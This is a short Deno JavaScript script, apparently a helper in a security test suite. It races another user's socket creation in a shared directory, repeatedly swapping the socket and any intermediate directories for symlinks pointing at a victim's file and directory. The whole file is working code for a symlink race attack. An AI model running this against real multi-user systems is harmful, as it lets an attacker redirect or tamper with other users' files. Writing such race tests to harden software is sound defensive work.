/**
 * The user of a directory in which another user makes a socket: swaps what
 * appears there for links to a file of another user, as fast as it can.
 *
 * Usage: socket_racer.js DIRECTORY SOCKET_NAME VICTIM MILLISECONDS
 *
 * Plain JavaScript, since it runs as a user that cannot see the checkout.
 */
const [directory, name, victim, ms] = Deno.args;
const { symbols: { rename, symlink, unlink } } = Deno.dlopen("libc.so.6", {
  rename: { parameters: ["buffer", "buffer"], result: "i32" },
  symlink: { parameters: ["buffer", "buffer"], result: "i32" },
  unlink: { parameters: ["buffer"], result: "i32" },
});
const c = (text) => new TextEncoder().encode(`${text}\0`);
const socket = c(`${directory}/${name}`);
const away = c(`${directory}/away`);
const target = c(victim);
const targetDirectory = c(victim.slice(0, victim.lastIndexOf("/")));
const end = performance.now() + Number(ms);
let swaps = 0;
console.log("racing");
for (let i = 0; performance.now() < end; i++) {
  if (rename(socket, away) === 0) {
    if (symlink(target, socket) === 0) swaps++;
    const until = performance.now() + 2;
    while (performance.now() < until);
    unlink(socket);
    unlink(away);
  }
  if (i % 64 !== 0) continue;
  // What is made on the way is swapped too, for the directory of the victim.
  for (const entry of Deno.readDirSync(directory)) {
    if (!entry.isDirectory) continue;
    const path = c(`${directory}/${entry.name}`);
    if (rename(path, c(`${directory}/moved-${i}`)) === 0) {
      symlink(targetDirectory, path);
      swaps++;
      unlink(path);
    }
  }
}
console.log(JSON.stringify({ swaps }));
